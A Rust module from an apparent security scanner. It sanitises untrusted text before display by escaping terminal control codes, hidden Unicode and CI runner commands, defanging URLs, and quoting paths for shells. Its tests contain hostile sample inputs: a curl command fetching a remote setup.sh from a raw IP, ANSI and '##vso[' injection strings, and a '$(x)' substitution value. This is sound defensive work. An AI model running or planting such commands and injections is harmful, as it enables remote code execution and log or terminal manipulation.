//! What foreign text becomes before a terminal may show it.

use crate::finding::Severity;
use crate::glyph::columns;
use crate::glyph::is_hidden;
use crate::indicator::defang::defang;
use crate::verdict::Verdict;
use std::borrow::Cow;
use std::fmt::Write as _;

/// A character of foreign text, or several that belong together, as it is shown.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Cell {
    /// The byte of the source it stands for.
    pub byte: usize,
    /// What is printed.
    pub text: String,
    /// How many columns that takes.
    pub columns: usize,
}

/// Splits foreign text into cells: defanged, and with escapes for whatever could steer a
/// terminal or a CI log that shows them. `column` is where the first one will stand, for tabs.
pub fn cells(source: &str, column: usize) -> Vec<Cell> {
    let defanged = defang(source);
    let mut cells: Vec<Cell> = Vec::new();
    let (mut column, mut marks) = (column, MARKS_MAX);
    let mut shown = defanged.chars().peekable();
    for (byte, c) in source.char_indices() {
        let mut cell = Cell { byte, text: String::new(), columns: 0 };
        // Defanging puts brackets around dots and replaces letters, one for one.
        let is_bracketed = c == '.' && shown.next_if_eq(&'[').is_some();
        cell.text.push_str(if is_bracketed { "[" } else { "" });
        push_shown(&mut cell.text, shown.next().unwrap_or(c), column, &mut marks);
        if is_bracketed && shown.next_if_eq(&']').is_some() {
            cell.text.push(']');
        }
        if gives_orders(source, byte) {
            cell.text = format!("\\u{{{:x}}}", u32::from(c));
        }
        cell.columns = width(&cell.text);
        column += cell.columns;
        cells.push(cell);
    }
    cells
}

/// Foreign text on one line, defanged and escaped, at most `TEXT_CHARS_MAX` characters of it.
pub fn clean(source: &str) -> String {
    let (source, rest) = source
        .char_indices()
        .nth(TEXT_CHARS_MAX)
        .map_or((source, ""), |(at, _)| source.split_at(at));
    let mut text: String = cells(source, 0).into_iter().map(|cell| cell.text).collect();
    if !rest.is_empty() {
        text.push('…');
    }
    text
}

/// Foreign text on one line, escaped but not defanged: for paths, which must stay what they are.
pub fn escape(source: &str) -> String {
    let (mut text, mut marks) = (String::with_capacity(source.len()), MARKS_MAX);
    for (byte, c) in source.char_indices() {
        if gives_orders(source, byte) {
            text.push_str("\\u{5b}");
        } else {
            push_shown(&mut text, c, 0, &mut marks);
        }
    }
    text
}

/// A path, escaped, or a URL, disarmed as well.
pub fn path_or_url(source: &str) -> String {
    if source.starts_with("http://") || source.starts_with("https://") {
        clean(source)
    } else {
        escape(source)
    }
}

/// The columns that shown text takes.
pub fn width(shown: &str) -> usize {
    shown.chars().map(columns).sum()
}

/// Shown text cut to `columns_max` columns, the last of them `…` when something is cut.
pub fn truncate(shown: &str, columns_max: usize) -> Cow<'_, str> {
    if width(shown) <= columns_max {
        return Cow::Borrowed(shown);
    }
    let (mut used, mut end) = (0, 0);
    for (at, c) in shown.char_indices() {
        used += columns(c);
        if used + 1 > columns_max {
            break;
        }
        end = at + c.len_utf8();
    }
    Cow::Owned(format!("{}…", shown.get(..end).unwrap_or_default()))
}

/// The same, with the beginning cut: the end of a path says more.
pub fn truncate_start(shown: &str, columns_max: usize) -> Cow<'_, str> {
    if width(shown) <= columns_max {
        return Cow::Borrowed(shown);
    }
    let (mut used, mut start) = (0, shown.len());
    for (at, c) in shown.char_indices().rev() {
        used += columns(c);
        if used + 1 > columns_max {
            break;
        }
        start = at;
    }
    let kept = shown.get(start..).unwrap_or_default();
    // A mark that has lost its character would sit on ours.
    Cow::Owned(format!("…{}", kept.trim_start_matches(|c| columns(c) == 0)))
}

/// Shown text broken at spaces into lines of at most `columns_max` columns, where words allow it;
/// those after the first are indented by `indent`.
pub fn wrap(shown: &str, indent: usize, columns_max: usize) -> String {
    let (mut lines, mut used) = (String::new(), 0);
    for (at, word) in shown.split(' ').enumerate() {
        let columns = width(word);
        if at > 0 && used > indent && used + 1 + columns > columns_max {
            lines.push('\n');
            lines.push_str(&" ".repeat(indent));
            used = indent;
        } else if at > 0 {
            lines.push(' ');
            used += 1;
        }
        lines.push_str(word);
        used += columns;
    }
    lines
}

/// Shown text followed by spaces up to `columns_min` columns.
pub fn pad(shown: &str, columns_min: usize) -> String {
    format!("{shown}{}", " ".repeat(columns_min.saturating_sub(width(shown))))
}

/// A path as a word that a shell reads as it is; none when it cannot be shown unescaped.
pub fn shell_word(path: &str) -> Option<String> {
    let plain = |c: char| c.is_ascii_alphanumeric() || "/._-~+,@".contains(c);
    if path.is_empty() || path.starts_with('-') || escape(path) != path {
        None
    } else if path.chars().all(plain) {
        Some(path.to_owned())
    } else {
        Some(format!("'{}'", path.replace('\'', r"'\''")))
    }
}

fn push_shown(text: &mut String, c: char, column: usize, marks: &mut usize) {
    *marks = if columns(c) == 0 { *marks + 1 } else { 0 };
    match c {
        '\t' => text.extend(std::iter::repeat_n(' ', TAB_COLUMNS - column % TAB_COLUMNS)),
        '\n' => text.push_str("\\n"),
        '\r' => text.push_str("\\r"),
        c if is_hidden(c) || *marks > MARKS_MAX => {
            *marks = 0;
            let _ = write!(text, "\\u{{{:x}}}", u32::from(c)); // a String takes everything
        }
        c => text.push(c),
    }
}

/// Whether the `[` at `byte` would make an order to a CI runner that reads what we print:
/// `##[…]` and `##vso[…]` are obeyed anywhere in a line.
fn gives_orders(source: &str, byte: usize) -> bool {
    let before = source.as_bytes().get(..byte).unwrap_or_default();
    source.as_bytes().get(byte) == Some(&b'[')
        && (before.ends_with(b"##")
            || before.len() >= 5
                && before
                    .get(before.len() - 5..)
                    .is_some_and(|end| end.eq_ignore_ascii_case(b"##vso")))
}

/// A colour or weight.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Style {
    /// What matters most.
    Bold,
    /// What matters least.
    Dim,
    /// Harm.
    Red,
    /// Doubt.
    Yellow,
    /// Care.
    Cyan,
    /// Nothing found.
    Green,
}

impl Style {
    /// The style of a severity.
    pub const fn of_severity(severity: Severity) -> Self {
        match severity {
            Severity::Critical | Severity::High => Self::Red,
            Severity::Medium => Self::Yellow,
            Severity::Low | Severity::Info => Self::Cyan,
        }
    }

    /// The style of a verdict.
    pub const fn of_verdict(verdict: Verdict) -> Self {
        match verdict {
            Verdict::Malicious => Self::Red,
            Verdict::Suspicious => Self::Yellow,
            Verdict::Caution => Self::Cyan,
            Verdict::Clean => Self::Green,
        }
    }

    /// The SGR parameters (ECMA-48 §8.3.117).
    const fn sgr(self) -> &'static str {
        match self {
            Self::Bold => "1",
            Self::Dim => "2",
            Self::Red => "1;31",
            Self::Yellow => "1;33",
            Self::Cyan => "1;36",
            Self::Green => "1;32",
        }
    }
}

/// Puts styles on text, or does not.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Paint {
    on: bool,
}

impl Paint {
    /// Styles only when `on`.
    pub const fn new(on: bool) -> Self {
        Self { on }
    }

    /// Shown text in a style.
    pub fn paint(self, style: Style, shown: &str) -> Cow<'_, str> {
        if self.on && !shown.is_empty() {
            Cow::Owned(format!("\x1b[{}m{shown}\x1b[0m", style.sgr()))
        } else {
            Cow::Borrowed(shown)
        }
    }
}

/// Columns between tab stops.
const TAB_COLUMNS: usize = 4;
/// Marks on one character; more of them would grow into the lines above and below.
const MARKS_MAX: usize = 3;
/// Characters of a name, title or reason that are shown: a few lines of a terminal.
const TEXT_CHARS_MAX: usize = 400;

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn lines_are_broken_at_spaces_only() {
        for (text, expected) in [
            ("", ""),
            ("  = ab cd", "  = ab cd"),
            ("  = ab cde", "  = ab\n    cde"),
            ("  = ab  c d e f", "  = ab  c\n    d e f"),
            ("  = 中中 cd", "  = 中中\n    cd"),
            ("  = abcdefghijk l", "  = abcdefghijk\n    l"),
            ("abcdefghijk", "abcdefghijk"),
        ] {
            assert_eq!(wrap(text, 4, 9), expected);
        }
    }

    #[test]
    fn what_a_terminal_would_obey_is_shown_as_an_escape() {
        for (source, shown) in [
            ("a\u{1b}[31mb", "a\\u{1b}[31mb"),
            ("\u{9b}2J\u{7f}\u{0}", "\\u{9b}2J\\u{7f}\\u{0}"),
            ("x\u{202e}y\u{200b}z\u{e0041}", "x\\u{202e}y\\u{200b}z\\u{e0041}"),
            ("a\r\nb\u{2028}c", "a\\r\\nb\\u{2028}c"),
            ("e\u{301}", "e\u{301}"),
            ("\u{301}e", "\\u{301}e"),
            ("e\u{301}\u{301}\u{301}\u{301}", "e\u{301}\u{301}\u{301}\\u{301}"),
            ("##[error]x ##VSO[y] a[0]", "##\\u{5b}error]x ##VSO\\u{5b}y] a[0]"),
            ("⚠\u{fe0f} ok", "⚠\u{fe0f} ok"),
        ] {
            assert_eq!((escape(source), clean(source)), (shown.to_owned(), shown.to_owned()));
        }
    }

    #[test]
    fn addresses_cannot_be_clicked() {
        for (text, shown) in [
            ("curl http://91.92.242.30/setup.sh", "curl hxxp://91.92.242[.]30/setup.sh"),
            ("HTTPS://glot.io/x.y.", "HXXPS://glot[.]io/x.y."),
            ("10.0.0.1", "10.0.0[.]1"),
            ("hxxp://91.92.242[.]30", "hxxp://91.92.242[.]30"),
            ("http://91.92.242[.]30 a]", "hxxp://91.92.242[.]30 a]"),
            ("http://localhost:80 http://é.com", "hxxp://localhost:80 hxxp://é[.]com"),
            ("v1.2.3 a.b c. [x]", "v1.2.3 a.b c. [x]"),
        ] {
            assert_eq!(clean(text), shown);
        }
    }

    #[test]
    fn tabs_reach_to_the_next_stop() {
        for (column, shown) in [(0, "    "), (1, "   "), (3, " "), (4, "    ")] {
            assert_eq!(cells("\t", column)[0].text, shown);
        }
    }

    #[test]
    fn text_is_cut_by_columns() {
        for (shown, columns_max, end, start) in [
            ("abc", 3, "abc", "abc"),
            ("abcd", 3, "ab…", "…cd"),
            ("中中", 3, "中…", "…中"),
            ("中中中", 4, "中…", "…中"),
            ("abe\u{301}", 2, "a…", "…e\u{301}"),
        ] {
            assert_eq!(truncate(shown, columns_max), end);
            assert_eq!(truncate_start(shown, columns_max), start);
        }
    }

    #[test]
    fn a_path_in_a_command_is_one_word() {
        for (path, word) in [
            ("a/b.md", Some("a/b.md")),
            ("a b", Some("'a b'")),
            ("$(x)'", Some(r"'$(x)'\'''")),
            ("a\u{202e}", None),
            ("-rf", None),
            ("", None),
        ] {
            assert_eq!(shell_word(path).as_deref(), word);
        }
    }

    proptest! {
        #[test]
        fn cells_hold_all_of_the_text_and_nothing_hidden(
            source in any::<String>(), column in 0usize..9,
        ) {
            let cells = cells(&source, column);
            prop_assert_eq!(cells.len(), source.chars().count());
            for cell in cells {
                prop_assert!(!cell.text.chars().any(is_hidden), "{:?}", cell);
                prop_assert_eq!(cell.columns, width(&cell.text));
            }
            prop_assert!(!escape(&source).chars().any(is_hidden));
        }

        #[test]
        fn cells_are_the_defanged_text(source in r"(http://|[a1.\[\]]|1\.2\.3\.4){0,12}") {
            let shown: String = cells(&source, 0).into_iter().map(|cell| cell.text).collect();
            prop_assert_eq!(shown, defang(&source));
        }

        #[test]
        fn cut_text_fits(source in any::<String>(), columns_max in 1usize..30) {
            let shown = clean(&source);
            prop_assert!(width(&truncate(&shown, columns_max)) <= columns_max);
            prop_assert!(width(&truncate_start(&shown, columns_max)) <= columns_max);
        }
    }
}
